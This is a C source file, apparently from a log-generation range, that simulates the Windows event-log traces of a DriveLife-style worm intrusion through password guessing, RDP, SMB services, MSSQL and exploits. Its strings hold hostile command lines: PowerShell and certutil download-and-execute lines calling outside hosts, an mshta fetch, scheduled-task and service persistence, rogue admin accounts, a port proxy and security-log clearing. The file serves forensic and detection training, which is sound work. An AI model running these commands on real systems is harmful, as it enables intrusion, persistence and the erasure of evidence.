/* The hostile part of a host's life: only what the logs of such an act hold. Names, paths, ports and periods are those that
 * public reports of the DriveLife family (2018 to 2020) give; nothing here could be run.
 *
 * Source    public write-ups of the family: services Ddriver and WebServers, tasks Ddrivers, WebServers, DnsScan (60 minutes)
 *           and Bluetooths (50 minutes), port proxy 65533 to 1.1.1.1:53, account k8h3d, service of four random letters with a
 *           file of eight in the Windows folder. */
#include "range/range.h"

#include <stdio.h>

#define SYSTEM32   "C:\\Windows\\System32\\"
#define CMD        SYSTEM32 "cmd.exe"
#define FAKE       SYSTEM32 "drivers\\svchost.exe"
#define FAKE_MINER SYSTEM32 "drivers\\taskmgr.exe"
#define SPREADER   "C:\\Windows\\Temp\\svchost.exe"
#define SERVICES   SYSTEM32 "services.exe"
#define SQLSERVR   "C:\\Program Files\\Microsoft SQL Server\\MSSQL10.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe"
#define DECODED    "IEX (New-Object Net.WebClient).downloadstring('http://v.beahh.com/v')" /* a host that is long gone */
#define BLUETOOTHS "powershell -ep bypass -e " ENCODED

static step *step_of(const act *a) { return (step *)a->what; }
static unsigned any_port(sim *s) { return (unsigned)rng_range(&s->r, 1025, 65000); }

static const char *letters(sim *s, unsigned n)
{
    char out[17] = { 0 };
    for (unsigned i = 0; i < n; i++)
        out[i] = (char)((rng_chance(&s->r, 50) ? 'A' : 'a') + (int)rng_below(&s->r, 26));
    return arena_str(s->w->mem, out);
}

/* A process of the attack: marks what it shows of the step. */
static uint32_t hostile(sim *s, step *st, const logon *who, const char *image, const char *command, uint32_t parent,
                        const char *parent_image)
{
    uint64_t record;
    uint32_t pid = log_process(s, who, image, command, parent, parent_image, &record);
    mark_step(st, SHOWS_HOSTILE, CH_SECURITY, record);
    return pid;
}

static void one_try(sim *s, step *st)
{
    static const char *const others[] = { "admin", "administrador", "user",    "test",   "server",  "backup",
                                          "guest", "sql",           "manager", "oracle", "support", "1" };
    bool known = st->from != FROM_OUTSIDE || rng_chance(&s->r, 85);
    const char *user = known ? st->account : rng_pick(&s->r, others), *workstation = st->source_shown ? st->workstation : letters(s, 10);
    uint32_t sub = known ? 0xc000006a : 0xc0000064;
    unsigned port = any_port(s);
    uint64_t record = 0;
    if (st->by == WAY_MSSQL) {
        mark_step(st, SHOWS_FAILURE, CH_APPLICATION, log_sql_failed(s, st->account, true, st->address));
        return;
    }
    if (st->by == WAY_RDP || st->by == WAY_RDP_NLA)
        log_rdp_listener(s, st->address, port, true);
    log_ntlm(s, user, st->by == WAY_RDP ? s->computer : workstation, sub);
    if (st->by == WAY_RDP)
        record = log_logon_failed(s, &(logon){ .user = user, .domain = s->computer, .type = 10, .address = st->address, .port = port },
                                  0xc000006d, sub);
    else
        record = log_logon_failed(s,
                                  &(logon){ .user = user,
                                            .domain = st->by == WAY_SMB ? "" : s->computer,
                                            .type = 3,
                                            .workstation = workstation,
                                            .address = st->source_shown ? st->address : NULL,
                                            .port = port },
                                  0xc000006d, sub);
    mark_step(st, SHOWS_FAILURE, CH_SECURITY, record);
}

static void guess(sim *s, const act *a)
{
    step *st = step_of(a);
    moment gap = (st->success - st->begin) / (st->tries + 1), at = a->at + gap / 2 + rng_below(&s->r, gap + 1);
    if (sim_up(s))
        one_try(s, st);
    if (a->n > 1 && at < st->success)
        sim_at(s, at, guess, st, a->n - 1);
}

typedef struct {
    step *st;
    uint32_t pid;
    const char *image;
    const logon *who;
} foothold;

static void install_service(sim *s, foothold *f, const char *name, const char *file)
{
    left_now(s, name);
    uint64_t audited = log_service_audit(s, f->who, name, file, 2), installed = log_service_installed(s, "S-1-5-18", name, file, true);
    mark_left(s, name, CH_SECURITY, audited);
    mark_left(s, name, CH_SYSTEM, installed);
    mark_step(f->st, SHOWS_HOSTILE, CH_SYSTEM, installed);
    mark_left(s, name, CH_SYSTEM, log_service_state(s, name, name, true));
}

static void register_task(sim *s, foothold *f, const char *task, const char *command, const char *arguments, const char *interval)
{
    left_now(s, task);
    uint64_t registered = log_task_change(s, TASK_REGISTERED, task, sim_print(s, "%s\\%s$", s->w->domain, s->computer));
    mark_left(s, task, CH_TASKS, registered);
    mark_step(f->st, SHOWS_HOSTILE, CH_TASKS, registered);
    mark_left(s, task, CH_SECURITY, log_task_audit(s, NULL, task, command, arguments, interval));
}

typedef struct {
    const char *task, *program, *command;
    unsigned minutes;
    bool shell;
} worm_task;
static const worm_task worm_tasks[] = {
    { "\\Ddrivers", FAKE, FAKE, 60, false },
    { "\\WebServers", SYSTEM32 "wmiex.exe", SYSTEM32 "wmiex.exe", 60, false },
    { "\\DnsScan", SPREADER, "c:\\windows\\temp\\svchost.exe", 60, false },
    { "\\Microsoft\\windows\\Bluetooths", "powershell", BLUETOOTHS, 50, true },
};

static void worm_task_runs(sim *s, const act *a)
{
    const worm_task *t = &worm_tasks[a->n];
    if (sim_up(s)) {
        bool eng = s->h->nt <= NT_61;
        const char *parent = eng ? SYSTEM32 "taskeng.exe" : SYSTEM32 "svchost.exe",
                   *image = t->shell ? SYSTEM32 "WindowsPowerShell\\v1.0\\powershell.exe" : t->program;
        uint32_t above =
            eng ? log_process(s, NULL, parent, sim_print(s, "taskeng.exe %s S-1-5-18:NT AUTHORITY\\System:Service:", sim_guid(s)),
                              s->schedule_pid, SYSTEM32 "svchost.exe", NULL)
                : s->schedule_pid;
        uint32_t pid = log_process(s, NULL, image, t->command, above, parent, NULL);
        log_task_run(s, t->task, "NT AUTHORITY\\SYSTEM", t->program, &pid, rng_range(&s->r, MOMENT_SECOND, 40 * MOMENT_SECOND));
        if (t->shell)
            log_script(s, DECODED);
        if (t->shell)
            log_shell(s, t->command, rng_range(&s->r, 4 * MOMENT_SECOND, 60 * MOMENT_SECOND));
    }
    sim_at(s, a->at + t->minutes * MOMENT_MINUTE, worm_task_runs, NULL, a->n);
}

/* The false svchost and its children. */
static void worm_tree(sim *s, step *st)
{
    uint32_t fake = s->fake_pid = hostile(s, st, NULL, FAKE, FAKE, s->services_pid, SERVICES);
    hostile(s, st, NULL, FAKE_MINER, FAKE_MINER, fake, FAKE);
    hostile(s, st, NULL, SPREADER, SPREADER, fake, FAKE);
    uint32_t shell = hostile(s, st, NULL, CMD, "cmd /c netstat -ano | findstr TCP", fake, FAKE);
    log_process(s, NULL, SYSTEM32 "NETSTAT.EXE", "netstat  -ano ", shell, CMD, NULL);
}

static void worm_account(sim *s, const act *a)
{
    foothold *f = (foothold *)a->what;
    const char *sid = sim_account_sid(s, "k8h3d"), *group = s->h->group_renamed ? "管理员" : "Administrators";
    hostile(s, f->st, NULL, SYSTEM32 "net.exe", "net user k8h3d ******** /add", f->pid, f->image);
    left_now(s, "k8h3d");
    mark_left(s, "k8h3d", CH_SECURITY, log_account_created(s, NULL, "k8h3d", sid));
    mark_left(s, "k8h3d", CH_SECURITY, log_group_added(s, NULL, sid, group, "S-1-5-32-544"));
}

static void worm_tasks_set(sim *s, const act *a)
{
    foothold *f = (foothold *)a->what;
    hostile(s, f->st, NULL, SYSTEM32 "schtasks.exe",
            "schtasks /create /ru system /sc MINUTE /mo 60 /tn DnsScan /tr c:\\windows\\temp\\svchost.exe /F", f->pid, f->image);
    hostile(s, f->st, NULL, SYSTEM32 "schtasks.exe",
            "schtasks /create /ru system /sc MINUTE /mo 50 /st 07:00:00 /tn \"\\Microsoft\\windows\\Bluetooths\" /tr \"" BLUETOOTHS "\" /F",
            f->pid, f->image);
    for (size_t i = 0; i < sizeof worm_tasks / sizeof *worm_tasks; i++) {
        const worm_task *t = &worm_tasks[i];
        register_task(s, f, t->task, t->program, t->shell ? "-ep bypass -e " ENCODED : "", t->minutes == 50 ? "PT50M" : "PT60M");
        sim_in(s, rng_range(&s->r, 2 * MOMENT_MINUTE, 12 * MOMENT_MINUTE), worm_task_runs, NULL, i);
    }
}

static void worm_services(sim *s, const act *a)
{
    foothold *f = (foothold *)a->what;
    install_service(s, f, "Ddriver", FAKE);
    worm_tree(s, f->st);
    install_service(s, f, "WebServers", SYSTEM32 "wmiex.exe");
    hostile(s, f->st, NULL, SYSTEM32 "wmiex.exe", SYSTEM32 "wmiex.exe", s->services_pid, SERVICES);
}

static void worm_ports(sim *s, const act *a)
{
    foothold *f = (foothold *)a->what;
    s->h->ports_at = s->now;
    hostile(s, f->st, NULL, SYSTEM32 "netsh.exe", "netsh firewall add portopening tcp 65533 DNSd", f->pid, f->image);
    *(passing *)vec_push(&s->w->passing) = (passing){ s->h->index, "DNSd" };
    mark_step(f->st, SHOWS_HOSTILE, CH_FIREWALL, log_firewall_rule(s, "DNSd", "65533", true, "S-1-5-18", SYSTEM32 "netsh.exe"));
    hostile(s, f->st, NULL, SYSTEM32 "netsh.exe",
            "netsh interface portproxy add v4tov4 listenport=65533 connectaddress=1.1.1.1 connectport=53", f->pid, f->image);
}

static void clear_security(sim *s, const act *a)
{
    (void)a;
    if (!sim_up(s))
        return;
    log_process(s, NULL, SYSTEM32 "wevtutil.exe", "wevtutil cl security", s->fake_pid, FAKE, NULL);
    log_security_cleared(s, NULL);
}

static void worm_settles(sim *s, step *st, uint32_t pid, const char *image, const logon *who)
{
    foothold *f = arena_alloc(s->w->mem, sizeof *f);
    *f = (foothold){ st, pid, image, who };
    sim_session(s, rng_range(&s->r, 5 * MOMENT_SECOND, 20 * MOMENT_SECOND), worm_ports, f, 0);
    sim_session(s, rng_range(&s->r, 25 * MOMENT_SECOND, 50 * MOMENT_SECOND), worm_services, f, 0);
    sim_session(s, rng_range(&s->r, 60 * MOMENT_SECOND, 100 * MOMENT_SECOND), worm_tasks_set, f, 0);
    sim_session(s, rng_range(&s->r, 110 * MOMENT_SECOND, 200 * MOMENT_SECOND), worm_account, f, 0);
}

void attack_after_boot(sim *s)
{
    step *st = s->h->step >= 0 ? &s->w->steps[s->h->step] : NULL;
    if (!st || s->now < st->success + 5 * MOMENT_MINUTE)
        return;
    mark_left(s, "Ddriver", CH_SYSTEM, log_service_state(s, "Ddriver", "Ddriver", true));
    mark_left(s, "WebServers", CH_SYSTEM, log_service_state(s, "WebServers", "WebServers", true));
    worm_tree(s, st);
}

static void intruder_stays(sim *s, const act *a)
{
    foothold *f = (foothold *)a->what;
    const char *sid = sim_account_sid(s, "sqladm");
    hostile(s, f->st, f->who, SYSTEM32 "net.exe", "net user sqladm ******** /add", f->pid, f->image);
    left_now(s, "sqladm");
    mark_left(s, "sqladm", CH_SECURITY, log_account_created(s, f->who, "sqladm", sid));
    mark_left(s, "sqladm", CH_SECURITY, log_group_added(s, f->who, sid, s->h->group_renamed ? "管理员" : "Administrators", "S-1-5-32-544"));
    hostile(s, f->st, f->who, SYSTEM32 "schtasks.exe",
            "schtasks /create /ru system /sc DAILY /tn SysUpdate /tr \"mshta http://update.invalid/a.hta\"", f->pid, f->image);
    register_task(s, f, "\\SysUpdate", "mshta.exe", "http://update.invalid/a.hta", "P1D");
}

typedef struct {
    logon l;
    unsigned session;
    const char *shown;
} remote_session;
static void remote_ends(sim *s, const act *a)
{
    remote_session *r = (remote_session *)a->what;
    log_session(s, 24, r->shown, r->session, r->l.address);
    log_session(s, 23, r->shown, r->session, NULL);
    log_logoff(s, &r->l);
}

static void by_desktop(sim *s, step *st)
{
    remote_session *r = arena_alloc(s->w->mem, sizeof *r);
    unsigned port = any_port(s);
    const char *shown_address = st->source_shown ? st->address : NULL;
    *r = (remote_session){ .l = { .user = st->account, .type = 10, .address = st->address, .port = port, .admin = true },
                           .session = ++s->session_next };
    r->shown = arena_printf(s->w->mem, "%s\\%s", s->computer, st->account);
    log_rdp_listener(s, st->address, port, false);
    mark_step(st, SHOWS_SOURCE, CH_CONNECTIONS, log_connection(s, st->account, s->computer, st->address));
    if (st->by == WAY_RDP_NLA) {
        logon *network = arena_alloc(s->w->mem, sizeof *network);
        *network = (logon){
            .user = st->account, .type = 3, .workstation = st->workstation, .address = shown_address, .port = port, .admin = true
        };
        log_ntlm(s, st->account, st->workstation, 0);
        uint64_t record = log_logon(s, network);
        mark_step(st, SHOWS_SUCCESS, CH_SECURITY, record);
        log_logoff(s, network);
        r->l.address = shown_address;
    }
    log_ntlm(s, st->account, s->computer, 0);
    log_explicit(s, NULL, &r->l, "localhost", SYSTEM32 "winlogon.exe");
    uint64_t record = log_logon(s, &r->l);
    mark_step(st, SHOWS_SUCCESS, CH_SECURITY, record);
    if (r->l.address)
        mark_step(st, SHOWS_SOURCE, CH_SECURITY, record);
    r->l.address = st->address;
    uint64_t session = log_session(s, 21, r->shown, r->session, st->address);
    mark_step(st, SHOWS_SESSION, CH_SESSIONS, session);
    mark_step(st, SHOWS_SOURCE, CH_SESSIONS, session);
    log_session(s, 22, r->shown, r->session, st->address);
    uint32_t explorer = log_desktop(s, &r->l);
    if (st->intruder == 2) {
        foothold *f = arena_alloc(s->w->mem, sizeof *f);
        *f = (foothold){ st, explorer, "C:\\Windows\\explorer.exe", &r->l };
        sim_session(s, rng_range(&s->r, 3 * MOMENT_MINUTE, 9 * MOMENT_MINUTE), intruder_stays, f, 0);
    } else {
        sim_pass(s, 40 * MOMENT_SECOND, 100 * MOMENT_SECOND);
        uint32_t dropper = hostile(s, st, &r->l, "C:\\install.exe", "\"C:\\install.exe\"", explorer, "C:\\Windows\\explorer.exe");
        uint32_t copy = hostile(s, st, &r->l, SYSTEM32 "svhost.exe", SYSTEM32 "svhost.exe", dropper, "C:\\install.exe");
        worm_settles(s, st, copy, SYSTEM32 "svhost.exe", &r->l);
    }
    sim_session(s, rng_range(&s->r, 10 * MOMENT_MINUTE, 25 * MOMENT_MINUTE), remote_ends, r, 0);
}

typedef struct {
    logon *l;
    const char *name, *path;
    moment at;
} service_run;
static void service_ends(sim *s, const act *a)
{
    const service_run *r = a->what;
    log_service_state(s, r->name, r->name, false);
    *(gone_service *)vec_push(&s->h->gone) = (gone_service){ r->name, r->path, r->at, s->now, true };
    log_logoff(s, r->l);
}

static void by_service(sim *s, step *st)
{
    logon *l = arena_alloc(s->w->mem, sizeof *l);
    service_run *run = arena_alloc(s->w->mem, sizeof *run);
    const char *name = letters(s, 4), *file = letters(s, 8), *path = arena_printf(s->w->mem, "%%systemroot%%\\%s.exe", file),
               *image = arena_printf(s->w->mem, "C:\\Windows\\%s.exe", file);
    *l = (logon){ .user = st->account,
                  .type = 3,
                  .workstation = st->source_shown ? st->workstation : letters(s, 10),
                  .address = st->source_shown ? st->address : NULL,
                  .port = any_port(s),
                  .admin = true };
    *run = (service_run){ l, name, path, s->now };
    *(passing *)vec_push(&s->w->passing) = (passing){ s->h->index, name };
    log_ntlm(s, st->account, l->workstation, 0);
    uint64_t record = log_logon(s, l);
    mark_step(st, SHOWS_SUCCESS, CH_SECURITY, record);
    if (st->source_shown)
        mark_step(st, SHOWS_SOURCE, CH_SECURITY, record);
    log_share(s, l, "\\\\*\\IPC$", "");
    log_share(s, l, "\\\\*\\ADMIN$", "\\??\\C:\\Windows");
    mark_step(st, SHOWS_SERVICE, CH_SECURITY, log_service_audit(s, l, name, path, 3));
    mark_step(st, SHOWS_SERVICE, CH_SYSTEM, log_service_installed(s, sim_account_sid(s, st->account), name, path, false));
    log_service_state(s, name, name, true);
    uint32_t service = hostile(s, st, NULL, image, path, s->services_pid, SERVICES);
    if (st->intruder == 2) {
        foothold *f = arena_alloc(s->w->mem, sizeof *f);
        *f = (foothold){ st, service, image, NULL };
        sim_session(s, rng_range(&s->r, 20 * MOMENT_SECOND, 90 * MOMENT_SECOND), intruder_stays, f, 0);
    } else {
        uint32_t shell = hostile(s, st, NULL, CMD, "cmd /c call c:\\windows\\temp\\tmp.vbs", service, image);
        uint32_t script = hostile(s, st, NULL, SYSTEM32 "wscript.exe",
                                  "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\windows\\temp\\tmp.vbs\"", shell, CMD);
        uint32_t inner = hostile(
            s, st, NULL, CMD,
            "\"C:\\Windows\\System32\\cmd.exe\" /c netsh.exe firewall add portopening tcp 65533 DNSd&&c:\\windows\\temp\\svchost.exe",
            script, SYSTEM32 "wscript.exe");
        worm_settles(s, st, inner, CMD, NULL);
    }
    sim_session(s, rng_range(&s->r, 3 * MOMENT_SECOND, 25 * MOMENT_SECOND), service_ends, run, 0);
}

static void by_database(sim *s, step *st)
{
    if (s->h->sql_logins) {
        uint64_t record = log_sql(s, 18454, 0, 4, st->account, log_sql_client(s, st->address), NULL);
        mark_step(st, SHOWS_SUCCESS, CH_APPLICATION, record);
        mark_step(st, SHOWS_SOURCE, CH_APPLICATION, record);
    }
    log_sql(s, 15457, 4, 2, "show advanced options", "0", "1");
    mark_step(st, SHOWS_SWITCH, CH_APPLICATION, log_sql(s, 15457, 4, 2, "xp_cmdshell", "0", "1"));
    uint64_t child;
    uint32_t shell = log_process(
        s, NULL, CMD, "\"C:\\Windows\\system32\\cmd.exe\" /c certutil -urlcache -split -f http://dl.haqo.net/dl.exe c:\\install.exe",
        s->sql_pid, SQLSERVR, &child);
    mark_step(st, SHOWS_CHILD, CH_SECURITY, child);
    hostile(s, st, NULL, SYSTEM32 "certutil.exe", "certutil  -urlcache -split -f http://dl.haqo.net/dl.exe c:\\install.exe", shell, CMD);
    sim_pass(s, 5 * MOMENT_SECOND, 20 * MOMENT_SECOND);
    shell = hostile(s, st, NULL, CMD, "\"C:\\Windows\\system32\\cmd.exe\" /c c:\\install.exe", s->sql_pid, SQLSERVR);
    uint32_t dropper = hostile(s, st, NULL, "C:\\install.exe", "c:\\install.exe", shell, CMD);
    worm_settles(s, st, dropper, "C:\\install.exe", NULL);
}

static void by_exploit(sim *s, step *st)
{
    const char *victim = rng_chance(&s->r, 50) ? SYSTEM32 "spoolsv.exe" : SYSTEM32 "lsass.exe";
    if (st->source_shown) {
        uint64_t record = log_logon(s, &(logon){ .user = "ANONYMOUS LOGON",
                                                 .domain = "NT AUTHORITY",
                                                 .sid = "S-1-5-7",
                                                 .type = 3,
                                                 .workstation = "",
                                                 .address = st->address,
                                                 .port = any_port(s) });
        mark_step(st, SHOWS_SOURCE, CH_SECURITY, record);
        sim_pass(s, MOMENT_SECOND, 4 * MOMENT_SECOND);
    }
    uint64_t child;
    uint32_t shell =
        log_process(s, NULL, CMD, "cmd.exe /c certutil -urlcache -split -f http://dl.haqo.net/dll.exe c:\\installs.exe & c:\\installs.exe",
                    strstr(victim, "lsass") ? s->lsass_pid : s->spooler_pid, victim, &child);
    mark_step(st, SHOWS_CHILD, CH_SECURITY, child);
    hostile(s, st, NULL, SYSTEM32 "certutil.exe", "certutil  -urlcache -split -f http://dl.haqo.net/dll.exe c:\\installs.exe", shell, CMD);
    uint32_t dropper = hostile(s, st, NULL, "C:\\installs.exe", "c:\\installs.exe", shell, CMD);
    worm_settles(s, st, dropper, "C:\\installs.exe", NULL);
}

static void gets_in(sim *s, const act *a)
{
    step *st = step_of(a);
    if (!sim_up(s)) { /* the machine is just restarting: a little later */
        st->success += 5 * MOMENT_MINUTE;
        sim_at(s, a->at + 5 * MOMENT_MINUTE, gets_in, st, 0);
        return;
    }
    switch (st->by) {
    case WAY_RDP:
    case WAY_RDP_NLA:
        by_desktop(s, st);
        break;
    case WAY_SMB:
        by_service(s, st);
        break;
    case WAY_MSSQL:
        by_database(s, st);
        break;
    default:
        by_exploit(s, st);
        break;
    }
}

void attack_begin(sim *s)
{
    for (int i = 0; i < s->w->step_count; i++) {
        step *st = &s->w->steps[i];
        if (st->to != s->h->index)
            continue;
        if (st->tries)
            sim_at(s, st->begin, guess, st, st->tries);
        sim_at(s, st->success, gets_in, st, 0);
    }
    if (s->h->clear_at != MOMENT_UNKNOWN)
        sim_at(s, s->h->clear_at, clear_security, NULL, 0);
}
